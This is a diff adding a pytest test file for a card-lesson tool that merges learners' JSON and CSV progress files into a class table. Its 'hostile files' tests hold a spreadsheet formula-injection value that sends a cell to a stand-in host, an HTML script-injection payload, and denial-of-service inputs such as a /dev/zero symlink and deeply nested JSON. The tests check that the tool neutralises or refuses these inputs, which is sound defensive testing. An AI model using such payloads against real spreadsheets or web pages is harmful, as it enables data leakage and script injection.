@@ -1,0 +1,381 @@
+"""A class's progress in one table: 30 learners play two bundled lessons (right first time,
+right after wrong tries, revealed, stopped before the end), hand in their progress files (half
+JSON, half CSV), and ``cardlab.lessons.class_progress`` merges them into one table, written as
+CSV and HTML and shown by the ClassProgress widget. Hostile files are refused, one by one, and
+names a spreadsheet or a browser would run are neutralised."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import time
+from pathlib import Path
+
+import pytest
+
+from cardlab import lessons
+from cardlab.cli import main
+from cardlab.lessons import LessonRun, ProgressFileError, class_progress, classbook
+from cardlab.lessons.classbook import read_progress
+from cardlab.widgets.lesson import answer_moves
+
+COMMONS = "card-commons-2-forced-defense"  # 4 questions: three at the start, a score at the end
+COMMERCE = "commerce-2-rankings"  # 5 questions: a move, then four scores
+LEARNERS = 30
+#: How each learner goes through a lesson, by the learner's number modulo 5.
+WAYS = ("right", "tries", "reveal", "stop", "mixed")
+
+
+@pytest.fixture(scope="module")
+def loaded() -> dict[str, lessons.Lesson]:
+    return {name: lessons.load(name) for name in (COMMONS, COMMERCE)}
+
+
+def right_answer(question: lessons.Question) -> str:
+    if question.kind == "play":
+        return str(question.moves[0])
+    if question.kind == "score":
+        return str(question.points)
+    return " ".join(c.code for c in sorted(question.cards)) or "-"
+
+
+def wrong_answers(run: LessonRun, question: lessons.Question) -> list[str]:
+    """Two wrong answers (moves the answer buttons offer, not the ones looked for; other numbers, other cards)."""
+    if question.kind == "score":
+        return [str(question.points + 1), str(question.points - 1)]
+    if question.kind == "cards":
+        first = sorted(question.cards)[0].code if question.cards else "2C"
+        return ["-" if question.cards else first, first] if len(question.cards) > 1 else ["-", "2C 3C"]
+    view = run.game.view(run.question_state(question), run.viewer)
+    return [str(m) for m in answer_moves(run.game, view, question.player) if m not in question.moves][:2]
+
+
+def play(lesson: lessons.Lesson, learner: str, way: str) -> LessonRun:
+    """A learner going through ``lesson`` one way: every question right first time, right after
+    the wrong answers, revealed after one wrong answer, stopped after the first question, or
+    each question a different way."""
+    run = LessonRun(lesson, learner=learner)
+    asked = 0
+    while True:
+        while (question := run.question) is not None:
+            if way == "stop" and asked == 1:
+                return run
+            how = WAYS[asked % 3] if way == "mixed" else way
+            if how in ("tries", "reveal"):
+                for wrong in wrong_answers(run, question)[: 2 if how == "tries" else 1]:
+                    assert not run.answer(wrong).correct
+            if how == "reveal":
+                run.reveal()
+            else:
+                assert run.answer(right_answer(question)).correct
+            asked += 1
+        if not run.next():
+            return run
+
+
+def learner_name(number: int) -> str:
+    return f"Learner {number:02d}"
+
+
+@pytest.fixture(scope="module")
+def hand_in(loaded, tmp_path_factory) -> tuple[Path, dict[tuple[str, str], LessonRun]]:
+    """A folder of the class's progress files: each learner's two lessons, one as JSON and one
+    as CSV (in turn), learner 29's Commerce lesson not handed in."""
+    folder = tmp_path_factory.mktemp("hand-in")
+    runs = {}
+    for number in range(LEARNERS):
+        name = learner_name(number)
+        for place, lesson in enumerate((COMMONS, COMMERCE)):
+            if number == LEARNERS - 1 and lesson == COMMERCE:
+                continue
+            run = play(loaded[lesson], name, WAYS[number % len(WAYS)])
+            runs[(name, lesson)] = run
+            as_json = (number + place) % 2 == 0
+            text = lessons.progress_json([run]) if as_json else lessons.progress_csv([run])
+            (folder / f"{number:02d}-{lesson}.{'json' if as_json else 'csv'}").write_text(text, encoding="utf-8")
+    return folder, runs
+
+
+@pytest.fixture(scope="module")
+def table(hand_in):
+    return class_progress([hand_in[0]])
+
+
+def test_half_the_files_are_json_and_half_csv_and_each_reads_back_as_the_runs_progress(hand_in):
+    folder, runs = hand_in
+    files = sorted(folder.iterdir())
+    suffixes = [f.suffix for f in files]
+    assert len(files) == 59 and abs(suffixes.count(".json") - suffixes.count(".csv")) == 1
+    for file in files:
+        number, lesson = file.stem.split("-", 1)
+        assert read_progress(file) == [runs[(learner_name(int(number)), lesson)].progress()]
+
+
+def test_the_progress_records_the_wrong_answers_tried_in_one_spelling(loaded):
+    run = LessonRun(loaded[COMMONS], learner="Ada")
+    question = run.question
+    assert question.kind == "cards"
+    for answer in ("-", "kS", "KS", "2c 3c", "ks"):  # KS three times, in three spellings
+        run.answer(answer)
+    run.answer("2H KS")
+    (item, *_) = run.progress().questions
+    assert item.wrong == ("none", "K♠", "2♣ 3♣") and item.tries == 6 and item.right and not item.first_try
+    data = json.loads(lessons.progress_json([run]))
+    assert data["version"] == 2 and data["lessons"][0]["items"][0]["wrong"] == ["none", "K♠", "2♣ 3♣"]
+    (row, *_) = csv.DictReader(io.StringIO(lessons.progress_csv([run])))
+    assert row["wrong"] == "none; K♠; 2♣ 3♣" and row["lesson_questions"] == "4"
+    run.answer("not even cards")  # not read: not a try, not a wrong answer (and the question is settled)
+    assert run.progress().questions[0].wrong == ("none", "K♠", "2♣ 3♣")
+
+
+def test_a_score_s_wrong_answers_keep_their_sign_through_csv(loaded, tmp_path):
+    run = LessonRun(loaded[COMMERCE], learner="Bo")
+    run.answer("knock")
+    run.next()
+    for answer in ("-1", "+3 points", "3"):
+        run.answer(answer)
+    path = tmp_path / "bo.csv"
+    path.write_text(lessons.progress_csv([run]), encoding="utf-8")
+    assert "'-1; 3" in path.read_text(encoding="utf-8")  # a cell starting with - is made text
+    (progress,) = read_progress(path)
+    assert progress == run.progress() and progress.questions[1].wrong == ("-1", "3")
+
+
+def test_thirty_learners_make_thirty_rows_and_nine_question_columns(table):
+    assert not table.problems and not table.notes
+    assert [row.name for row in table.learners] == [learner_name(n) for n in range(LEARNERS)]
+    assert [(lesson.lesson, lesson.question_count, len(lesson.columns)) for lesson in table.lessons] == [
+        (COMMONS, 4, 4),
+        (COMMERCE, 5, 5),
+    ]
+    assert [(c.step, c.number, c.kind) for c in table.lessons[0].columns] == [
+        (0, 1, "cards"),
+        (0, 2, "play"),
+        (0, 3, "cards"),
+        (11, 1, "score"),
+    ]
+
+
+def cell_texts(table, number: int) -> list[str]:
+    row = next(r for r in table.learners if r.name == learner_name(number))
+    return [row.cell(c).text for c in table.columns]
+
+
+def test_each_cell_says_how_the_question_went(table, hand_in):
+    assert cell_texts(table, 0) == ["right first time"] * 9
+    assert cell_texts(table, 1) == ["right after 3 tries"] * 9
+    assert cell_texts(table, 2) == ["revealed after 1 try"] * 9
+    # stopped after the first question: the next one is asked, not answered; the later ones are
+    # not answered when the progress lists them (a question of a step reached), else not reached
+    _, runs = hand_in
+    for lesson, cells in ((COMMONS, cell_texts(table, 3)[:4]), (COMMERCE, cell_texts(table, 3)[4:])):
+        listed = len(runs[(learner_name(3), lesson)].progress().questions)
+        assert cells == ["right first time"] + ["not answered"] * (listed - 1) + ["not reached"] * (len(cells) - listed)
+        assert listed >= 2 and cells[-1] == "not reached"
+    mixed = ["right first time", "right after 3 tries", "revealed after 1 try"]
+    assert cell_texts(table, 4) == mixed + mixed[:1] + mixed + mixed[:2]
+    assert cell_texts(table, 29)[4:] == ["not reached"] * 5  # no Commerce file
+    row = table.learners[1]
+    assert (row.count("first"), row.count("after"), row.count("revealed")) == (0, 9, 0)
+
+
+def test_the_common_wrong_answers_are_counted_by_learner(table):
+    column = table.lessons[1].columns[1]  # Commerce's first score: points + 1 and points - 1 were tried
+    counts = dict(table.common_wrong(column))
+    tries = sum(1 for n in range(LEARNERS - 1) if WAYS[n % 5] == "tries")
+    reveals = sum(1 for n in range(LEARNERS - 1) if WAYS[n % 5] == "reveal")
+    mixed = sum(1 for n in range(LEARNERS - 1) if WAYS[n % 5] == "mixed")  # tried the second question
+    assert column.kind == "score" and len(counts) == 2
+    (high, high_count), (low, low_count) = table.common_wrong(column)
+    assert int(high) == int(low) + 2 and high_count == tries + reveals + mixed and low_count == tries + mixed
+
+
+def test_the_class_table_as_csv(table):
+    rows = list(csv.reader(io.StringIO(table.to_csv())))
+    head, body = rows[0], rows[1:]
+    assert head[0] == "learner" and head[1] == f"{COMMONS} Q1 (step 0)" and head[4] == f"{COMMONS} Q4 (step 11)"
+    assert head[-3:] == ["right first time", "right", "revealed"] and len(head) == 1 + 9 + 3
+    assert len(body) == LEARNERS and body[1][0] == learner_name(1)
+    assert body[1][1:10] == ["right after 3 tries"] * 9 and body[1][10:] == ["0", "9", "0"]
+    assert body[2][10:] == ["0", "0", "9"]
+
+
+def test_the_class_table_as_a_self_contained_page(table):
+    page = table.to_html()
+    assert page.startswith("<!DOCTYPE html>") and '<html lang="en">' in page and "<style>" in page
+    for absent in ("<script", "http:", "https:", "src=", "<link", "@import"):
+        assert absent not in page
+    assert page.count('<tr><th scope="row">') == LEARNERS
+    assert '<abbr title="right after 3 tries">✓3</abbr>' in page and "What the cells say" in page
+    assert "Common wrong answers:" in page and "learners)" in page
+
+
+def test_the_widget_syncs_the_same_table(table):
+    from cardlab.widgets import ClassProgress
+
+    widget = ClassProgress(table)
+    view = json.loads(widget.view_json)
+    assert view["component"] == "class_progress" and view["viewer_text"] == "30 learners, 2 lessons, 9 questions."
+    assert [len(lesson["columns"]) for lesson in view["lessons"]] == [4, 5]
+    assert [row["name"] for row in view["learners"]] == [row.name for row in table.learners]
+    assert [c["text"] for c in view["learners"][4]["cells"]] == cell_texts(table, 4)
+    assert [c["short"] for c in view["learners"][4]["cells"][:3]] == ["✓", "✓3", "shown"]
+    ranks = [c["rank"] for c in view["learners"][3]["cells"][:4]]
+    assert ranks[0] < ranks[1] < ranks[2] == ranks[3]  # right < not answered < not reached
+    column = view["lessons"][1]["columns"][1]
+    assert [(w["answer"], w["count"]) for w in column["wrong"]] == table.common_wrong(table.lessons[1].columns[1])
+    assert view["learners"][0]["totals"] == [9, 9, 0]
+    assert repr(widget) == "ClassProgress(30 learners, 2 lessons, 9 questions)"
+    picture = widget._repr_mimebundle_()[0]["text/html"]
+    assert "Learner 29" in picture and "<script" not in picture
+
+
+def test_the_widget_reads_files_and_a_folder_itself(hand_in):
+    from cardlab.widgets import ClassProgress
+
+    folder, _ = hand_in
+    widget = ClassProgress(folder)
+    assert len(json.loads(widget.view_json)["learners"]) == LEARNERS
+    widget.load(sorted(folder.glob("0*.json")))
+    view = json.loads(widget.view_json)
+    assert len(view["learners"]) == 10 and view["rev"] == 2
+
+
+# --- merging ---------------------------------------------------------------------------------------
+
+
+def write(path: Path, *runs: LessonRun, as_json: bool = True) -> Path:
+    path.write_text(lessons.progress_json(runs) if as_json else lessons.progress_csv(runs), encoding="utf-8")
+    return path
+
+
+def test_one_learner_in_several_files_and_spellings_is_one_row(loaded, tmp_path):
+    write(tmp_path / "a.json", play(loaded[COMMONS], "Ada  Lovelace", "right"))
+    write(tmp_path / "b.csv", play(loaded[COMMERCE], "ada lovelace", "tries"), as_json=False)
+    result = class_progress(tmp_path)
+    (row,) = result.learners
+    assert row.name == "Ada  Lovelace" and len(row.files) == 2 and not result.notes
+    assert [row.cell(c).status for c in result.columns] == ["first"] * 4 + ["after"] * 5
+
+
+def test_the_same_lesson_handed_in_twice_keeps_the_one_that_got_further(loaded, tmp_path):
+    further = write(tmp_path / "z-later.json", play(loaded[COMMONS], "Ada", "right"))
+    earlier = write(tmp_path / "a-earlier.csv", play(loaded[COMMONS], "Ada", "stop"), as_json=False)
+    os.utime(earlier, (time.time() + 60, time.time() + 60))  # the newer file, but not as far on
+    result = class_progress([tmp_path])
+    (row,) = result.learners
+    assert [row.cell(c).status for c in result.columns] == ["first"] * 4 and row.files == (str(further),)
+    (note,) = result.notes
+    assert "Ada" in note and COMMONS in note and str(further) in note and str(earlier) in note and "further" in note
+
+
+def test_a_file_of_a_whole_class_is_read_too(loaded, tmp_path):
+    runs = [play(loaded[COMMONS], f"L{n}", "right") for n in range(3)]
+    write(tmp_path / "class.json", *runs)
+    write(tmp_path / "class.csv", *[play(loaded[COMMERCE], f"L{n}", "reveal") for n in range(3)], as_json=False)
+    result = class_progress(tmp_path)
+    assert [r.name for r in result.learners] == ["L0", "L1", "L2"] and len(result.columns) == 9
+
+
+def test_a_learner_without_a_name_is_named_by_the_file(loaded, tmp_path):
+    write(tmp_path / "mine.json", play(loaded[COMMONS], "", "right"))
+    write(tmp_path / "yours.json", play(loaded[COMMONS], "", "reveal"))
+    assert [r.name for r in class_progress(tmp_path).learners] == ["(no name: mine.json)", "(no name: yours.json)"]
+
+
+# --- hostile files ----------------------------------------------------------------------------------------
+
+
+def test_names_a_spreadsheet_or_a_browser_would_run_are_neutralised(loaded, tmp_path):
+    formula = '=HYPERLINK("http://x.test/"&C2,"open")'
+    markup = "<img src=x onerror=alert(1)>Zoe"
+    write(tmp_path / "f.csv", play(loaded[COMMONS], formula, "right"), as_json=False)
+    write(tmp_path / "m.json", play(loaded[COMMONS], markup, "tries"))
+    write(tmp_path / "t.json", play(loaded[COMMONS], "-2+3", "right"))
+    result = class_progress(tmp_path)
+    assert sorted(r.name for r in result.learners) == sorted([formula, markup, "-2+3"])  # read back as written
+    rows = {row[0] for row in csv.reader(io.StringIO(result.to_csv()))}
+    assert "'" + formula in rows and "'-2+3" in rows and formula not in rows
+    page = result.to_html()
+    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;Zoe" in page
+
+
+def test_hostile_files_are_refused_one_by_one_and_the_others_read(loaded, tmp_path):
+    good = write(tmp_path / "good.json", play(loaded[COMMONS], "Ada", "right"))
+    huge = tmp_path / "huge.json"
+    huge.write_text('{"cardlab": "lesson-progress", "pad": "' + " " * 1_100_000 + '"}', encoding="utf-8")
+    (tmp_path / "zero.json").symlink_to("/dev/zero")
+    os.mkfifo(tmp_path / "pipe.csv")
+    (tmp_path / "lesson.json").write_text((Path(lessons.BUNDLED) / f"{COMMONS}.md").read_text(), encoding="utf-8")
+    (tmp_path / "other.json").write_text('{"cardlab": "session", "version": 2}', encoding="utf-8")
+    (tmp_path / "future.json").write_text('{"cardlab": "lesson-progress", "version": 9, "lessons": []}')
+    (tmp_path / "deep.json").write_text("[" * 100_000 + "]" * 100_000)
+    (tmp_path / "digits.json").write_text(good.read_text().replace('"steps": 12', '"steps": ' + "9" * 5000))
+    (tmp_path / "negative.json").write_text(good.read_text().replace('"tries": 1', '"tries": -1'))
+    (tmp_path / "kind.json").write_text(good.read_text().replace('"kind": "play"', '"kind": "<script>"'))
+    (tmp_path / "lines.json").write_text(good.read_text().replace('"Ada"', '"Ada\\nBo"'))
+    (tmp_path / "binary.csv").write_bytes(b"\xff\xfe" + os.urandom(200))
+    (tmp_path / "other.csv").write_text("name,score\nAda,3\n")
+    (tmp_path / "ragged.csv").write_text(lessons.progress_csv([play(loaded[COMMONS], "Bo", "right")]) + "x,y\n")
+    (tmp_path / "notes.txt").write_text("not read: not a .json or .csv file")
+    started = time.perf_counter()
+    result = class_progress(tmp_path)
+    elapsed = time.perf_counter() - started
+    assert [r.name for r in result.learners] == ["Ada"] and elapsed < 2.0
+    refused = {Path(p.split(": ")[0]).name: p for p in result.problems}
+    assert sorted(refused) == sorted(
+        [
+            "huge.json",
+            "zero.json",
+            "pipe.csv",
+            "lesson.json",
+            "other.json",
+            "future.json",
+            "deep.json",
+            "digits.json",
+            "negative.json",
+            "kind.json",
+            "lines.json",
+            "binary.csv",
+            "other.csv",
+            "ragged.csv",
+        ]
+    )
+    assert "too big" in refused["huge.json"] and "regular file" in refused["zero.json"]
+    assert "regular file" in refused["pipe.csv"] and "UTF-8" in refused["binary.csv"]
+    assert "version 1 or 2" in refused["future.json"] and "'tries'" in refused["negative.json"]
+    assert all(len(p) < 300 for p in result.problems)  # quoted values are cut short
+    with pytest.raises(ProgressFileError, match="zero.json") as err:
+        read_progress(tmp_path / "zero.json")
+    assert isinstance(err.value, ValueError) and err.value.path == str(tmp_path / "zero.json")
+
+
+def test_the_number_of_files_read_is_bounded(loaded, tmp_path, monkeypatch):
+    for n in range(6):
+        write(tmp_path / f"{n}.json", play(loaded[COMMONS], f"L{n}", "right"))
+    monkeypatch.setattr(classbook, "MAX_PROGRESS_FILES", 4)
+    result = class_progress(tmp_path)
+    assert len(result.learners) == 4 and result.problems == ("more than 4 progress files: only the first 4 were read",)
+
+
+# --- the command line -------------------------------------------------------------------------------------
+
+
+def test_the_command_writes_csv_and_html_and_reports_each_bad_file(hand_in, tmp_path, capsys):
+    folder, _ = hand_in
+    bad = tmp_path / "bad.json"
+    bad.write_text("{")
+    out_csv, out_html = tmp_path / "class.csv", tmp_path / "class.html"
+    code = main(["lesson", "progress", str(folder), str(bad), str(tmp_path / "missing.csv"), "--csv", str(out_csv),
+                 "--html", str(out_html)])  # fmt: skip
+    said = capsys.readouterr()
+    assert code == 1 and said.out == ""
+    assert f"{bad}: not a progress file: the JSON can't be read" in said.err
+    assert f"{tmp_path / 'missing.csv'}: no such file" in said.err
+    assert "30 learners, 2 lessons, 9 questions; 2 not read" in said.err
+    assert out_csv.read_text(encoding="utf-8") == class_progress([folder]).to_csv()
+    assert out_html.read_text(encoding="utf-8").count('<tr><th scope="row">') == LEARNERS
+    assert main(["lesson", "progress", str(folder)]) == 0
+    assert capsys.readouterr().out == class_progress([folder]).to_csv()  # no file named: the CSV on stdout
